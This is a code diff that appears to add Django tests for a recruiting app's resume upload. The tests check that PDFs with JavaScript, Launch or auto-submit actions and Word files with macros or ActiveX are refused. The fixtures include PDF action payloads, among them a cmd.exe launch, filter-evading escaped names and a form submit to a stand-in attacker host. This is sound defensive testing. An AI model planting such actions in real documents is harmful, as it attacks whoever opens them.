@@ -7,6 +7,7 @@ from candidates.models import Candidate
 from candidates.resumes import MAX_RESUME_BYTES
 from tests.candidates.conftest import (
     docx_bytes,
+    macro_docx,
     pdf_bytes,
     stored_files,
     upload,
@@ -62,6 +63,58 @@ def test_a_bad_resume_is_refused_with_a_clear_error_and_nothing_is_stored(
     assert message in " ".join(response.context["form"].errors["resume_file"])
     assert not Candidate.objects.exists()
     assert stored_files(media_root) == []
+
+
+ACTIVE_PDFS = {
+    "javascript-open-action": {"catalog": b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"},
+    "escaped-names": {"catalog": b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"},
+    "launch": {"catalog": b"/OpenAction << /S /Launch /F (cmd.exe) >>"},
+    "document-javascript": {
+        "catalog": b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >>"
+    },
+    "page-open-action": {"page": b"/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>"},
+}
+
+
+@pytest.mark.parametrize("extra", ACTIVE_PDFS.values(), ids=ACTIVE_PDFS.keys())
+def test_a_pdf_with_javascript_or_an_automatic_action_is_refused_and_nothing_is_stored(
+    client_for, recruiter, media_root, extra
+):
+    response = _post_with_resume(client_for(recruiter), upload("cv.pdf", pdf_bytes("Ada", **extra)))
+
+    assert response.status_code == 400
+    assert "contains active content" in " ".join(response.context["form"].errors["resume_file"])
+    assert 'value="New"' in response.content.decode()  # what was typed is kept
+    assert not Candidate.objects.exists()
+    assert stored_files(media_root) == []
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "message"),
+    [
+        ("cv.docx", macro_docx("Ada"), "contains macros"),
+        ("cv.docx", macro_docx("Ada", extension_part="word/activeX/activeX1.xml"), "ActiveX"),
+        ("cv.docm", macro_docx("Ada"), "Upload a PDF, DOCX or plain text"),
+    ],
+    ids=["vba-project", "activex", "docm"],
+)
+def test_a_word_document_with_macros_is_refused_and_nothing_is_stored(
+    client_for, recruiter, media_root, name, data, message
+):
+    response = _post_with_resume(client_for(recruiter), upload(name, data))
+
+    assert response.status_code == 400
+    assert message in " ".join(response.context["form"].errors["resume_file"])
+    assert not Candidate.objects.exists()
+    assert stored_files(media_root) == []
+
+
+def test_a_pdf_that_opens_on_its_first_page_is_accepted(client_for, recruiter, media_root):
+    plain_open = pdf_bytes("Kubernetes operator", catalog=b"/OpenAction [3 0 R /Fit]")
+    response = _post_with_resume(client_for(recruiter), upload("cv.pdf", plain_open))
+
+    assert response.status_code == 302
+    assert "Kubernetes operator" in Candidate.objects.get().resume_text
 
 
 def test_a_docx_over_the_uncompressed_size_limit_is_a_zip_bomb(client_for, recruiter, media_root):
@@ -174,3 +227,44 @@ def test_replacing_a_resume_deletes_the_old_file_after_commit(
     assert candidate.resume_filename == "new.txt"
     assert "Rust" in candidate.resume_text
     assert [path.read_bytes() for path in stored_files(media_root)] == [b"Rust and WebAssembly"]
+
+
+def test_a_resume_whose_upload_never_committed_leaves_no_file_behind(
+    recruiter, media_root, clock, django_capture_on_commit_callbacks
+):
+    from datetime import timedelta
+
+    from django.db import transaction
+
+    from ats.media import ORPHAN_GRACE
+    from ats.tasks import delete_orphan_files
+    from candidates.services import candidate_create
+
+    class Crash(Exception):
+        pass
+
+    kept = candidate_create(
+        by=recruiter,
+        first_name="Kept",
+        last_name="One",
+        email="kept@example.org",
+        resume=upload("kept.txt", b"Kept resume"),
+    )
+    with pytest.raises(Crash), transaction.atomic():  # the process dies before the commit
+        candidate_create(
+            by=recruiter,
+            first_name="Lost",
+            last_name="One",
+            email="lost@example.org",
+            resume=upload("lost.txt", b"Lost resume"),
+        )
+        raise Crash
+    assert len(stored_files(media_root)) == 2  # the file was written, its row never committed
+    assert list(Candidate.objects.values_list("email", flat=True)) == ["kept@example.org"]
+
+    assert delete_orphan_files() == 0  # within the grace: it could be a transaction in progress
+    clock.advance(ORPHAN_GRACE + timedelta(minutes=1))
+    assert delete_orphan_files() == 1
+    [left] = stored_files(media_root)
+    assert left.as_posix().endswith(kept.resume.name)
+    assert left.read_bytes() == b"Kept resume"
